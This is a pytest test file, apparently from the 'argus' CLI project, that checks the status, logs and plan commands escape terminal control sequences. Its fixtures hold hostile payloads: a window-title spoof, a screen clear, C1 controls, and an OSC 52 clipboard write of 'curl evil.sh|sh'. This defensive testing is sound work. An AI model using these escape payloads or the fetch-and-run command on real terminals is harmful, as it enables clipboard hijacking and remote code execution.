"""What argus prints cannot drive the reader's terminal (reconciler/terminal.py, issue 18 item 4).

The attacks: a job (or whoever can push to the status branch, or a hostile ``--server``) prints a
window-title spoof, a screen clear, an OSC 52 clipboard write of ``curl evil.sh|sh`` and 8-bit C1
controls. ``argus status``, ``argus logs`` and ``argus plan`` run as real processes on a real
pseudo-terminal (the tty path) and on a pipe (bytes as they are)."""

from __future__ import annotations

import base64
import http.server
import io
import json
import os
import pty
import select
import subprocess
import sys
import threading
import tty
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler.terminal import EscapingStream, escape
from reconciler.testing.status_branch import commit_files, dump, task_doc

CLIPBOARD = base64.b64encode(b"curl evil.sh|sh").decode()
TITLE = "\x1b]0;root@bastion: ~\x07"
CLEAR = "\x1b[2J\x1b[H"
OSC52 = f"\x1b]52;c;{CLIPBOARD}\x07"
C1 = "\x9b31m\x9d0;spoof\x9c\x85"
HOSTILE = f"{TITLE}{CLEAR}{OSC52}{C1}done"

ESCAPES = [
    (TITLE, "^[]0;root@bastion: ~^G"),
    (CLEAR, "^[[2J^[[H"),
    (OSC52, f"^[]52;c;{CLIPBOARD}^G"),
    ("\x9b31m", "M-^[31m"),
    ("\x80\x9f", "M-^@M-^_"),
    ("a\rb\x08c\x7f", "a^Mb^Hc^?"),
    ("keep\ttabs\nand lines", "keep\ttabs\nand lines"),
    ("héllo ✓", "héllo ✓"),
]


def _controls(text: str) -> set[str]:
    return {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F}


@pytest.mark.parametrize(("text", "expected"), ESCAPES)
def test_escape(text: str, expected: str) -> None:
    assert escape(text) == expected


@given(st.text())
def test_no_control_character_but_newline_and_tab_survives(text: str) -> None:
    assert not _controls(escape(text))


def test_bytes_split_inside_a_character_are_decoded_whole() -> None:
    out = io.StringIO()
    stream = EscapingStream(out)
    data = "é\x1b[2J✓".encode()
    for i in range(len(data)):
        stream.buffer.write(data[i : i + 1])
    stream.buffer.write(b"\xff")  # not UTF-8
    stream.buffer.close()
    assert out.getvalue() == "é^[[2J✓\ufffd"


# --- the real CLI, on a pseudo-terminal and on a pipe ---


def _run_on_pty(args: list[str], cwd: Path) -> tuple[int, bytes]:
    """Run ``argus ARGS`` with stdout and stderr on a fresh pseudo-terminal (raw mode, so that the
    line discipline adds no carriage returns); return its exit status and everything it wrote."""
    master, slave = pty.openpty()
    tty.setraw(slave)
    env = {**os.environ, "PYTHONPATH": os.getcwd(), "ARGUS_CACHE_DIR": str(cwd / "cache")}
    proc = subprocess.Popen(
        [sys.executable, "-m", "reconciler.cli", *args],
        stdout=slave,
        stderr=slave,
        stdin=subprocess.DEVNULL,
        cwd=cwd,
        env=env,
    )
    os.close(slave)
    chunks = []
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        if not ready:
            proc.kill()
            raise AssertionError("argus wrote nothing for 60 s")
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the last writer closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(master)
    return proc.wait(timeout=60), b"".join(chunks)


def _run_on_pipe(args: list[str], cwd: Path) -> tuple[int, bytes]:
    env = {**os.environ, "PYTHONPATH": os.getcwd(), "ARGUS_CACHE_DIR": str(cwd / "cache")}
    proc = subprocess.run(
        [sys.executable, "-m", "reconciler.cli", *args], capture_output=True, cwd=cwd, env=env, timeout=120
    )
    return proc.returncode, proc.stdout + proc.stderr


def _assert_escaped(out: bytes) -> None:
    text = out.decode()
    assert not _controls(text), sorted(_controls(text))
    assert "^[]0;root@bastion: ~^G" in text and "^[[2J" in text and f"^[]52;c;{CLIPBOARD}^G" in text
    assert "M-^[31m" in text and "M-^]0;spoof" in text


def _assert_raw(out: bytes) -> None:
    assert HOSTILE.encode() in out


@pytest.fixture
def status_repo(tmp_path: Path) -> Path:
    """A clone whose status branch (forged, or written by an argus without redaction) holds a failed
    run whose message and log tail carry the escapes."""
    origin = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
    doc = task_doc("mallory", "t", "FAILED", reason=f"failed {HOSTILE}")
    doc["runs"][0].update(message=f"exit 1 {HOSTILE}", log_tail=["ok", HOSTILE])
    commit_files(str(origin), {"users/mallory/tasks/t.yaml": dump(doc)})
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(origin), str(clone)], check=True, capture_output=True)
    return clone


def test_status_on_a_terminal_is_escaped(status_repo: Path) -> None:
    rc, out = _run_on_pty(["status", "--repo", str(status_repo)], status_repo.parent)
    assert rc == 0, out
    _assert_escaped(out)
    assert b"mallory/tasks/t" in out and b"FAILED" in out


def test_status_raw_and_on_a_pipe_writes_bytes(status_repo: Path) -> None:
    for run in (_run_on_pipe, _run_on_pty):
        rc, out = run(["status", "--repo", str(status_repo), "--raw"], status_repo.parent)
        assert rc == 0, out
        _assert_raw(out)
    rc, out = _run_on_pipe(["status", "--repo", str(status_repo)], status_repo.parent)
    assert rc == 0
    _assert_raw(out)


class _HostileDaemon(http.server.BaseHTTPRequestHandler):
    """An HTTP server that answers every log request with the escapes (a hostile or old ``--server``:
    the real daemon's redactor removes control characters before they are served)."""

    def do_GET(self) -> None:
        if "nosuch" in self.path:
            body = json.dumps({"error": f"no such task {HOSTILE}"}).encode()
            self.send_response(404)
        else:
            body = f"line 1\n{HOSTILE}\nlast ✓\n".encode()
            self.send_response(200)
        self.send_header("Content-Type", "text/plain; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[str]:
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _HostileDaemon)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_logs_on_a_terminal_are_escaped_and_raw_writes_bytes(server: str, tmp_path: Path) -> None:
    rc, out = _run_on_pty(["logs", "mallory/tasks/t", "--server", server], tmp_path)
    assert rc == 0, out
    _assert_escaped(out)
    assert out.decode().endswith("last ✓\n")
    for run in (_run_on_pipe, _run_on_pty):
        rc, out = run(["logs", "mallory/tasks/t", "--server", server, "--raw"], tmp_path)
        assert rc == 0, out
        _assert_raw(out)


def test_an_error_message_never_reaches_the_terminal_raw(server: str, tmp_path: Path) -> None:
    # Error messages pass through the redactor, which removes control sequences, even with --raw.
    for raw in ([], ["--raw"]):
        rc, out = _run_on_pty(["logs", "mallory/tasks/nosuch", "--server", server, *raw], tmp_path)
        assert rc == 1
        assert not _controls(out.decode()) and b"HTTP 404: no such task done" in out


def test_plan_on_a_terminal_is_escaped(tmp_path: Path) -> None:
    """``argus plan --actual`` reads what ``argus status --format actual`` printed: job names and
    messages from the cluster, which the plan names."""
    repo = tmp_path / "cfg"
    (repo / "users").mkdir(parents=True)
    (repo / "cluster.yaml").write_text("{}\n")
    actual = {
        "jobs": [
            {
                "submission_id": "argus--mallory--x--1",
                "user": "mallory",
                "task": f"x{HOSTILE}",
                "status": "RUNNING",
                "message": HOSTILE,
            }
        ]
    }
    (tmp_path / "actual.json").write_text(json.dumps(actual))
    args = ["plan", str(repo), "--offline", "--actual", str(tmp_path / "actual.json")]
    rc, out = _run_on_pty(args, tmp_path)
    assert rc in (0, 2), out
    _assert_escaped(out)
    rc, out = _run_on_pipe([*args, "--raw"], tmp_path)
    assert rc in (0, 2), out
    _assert_raw(out)
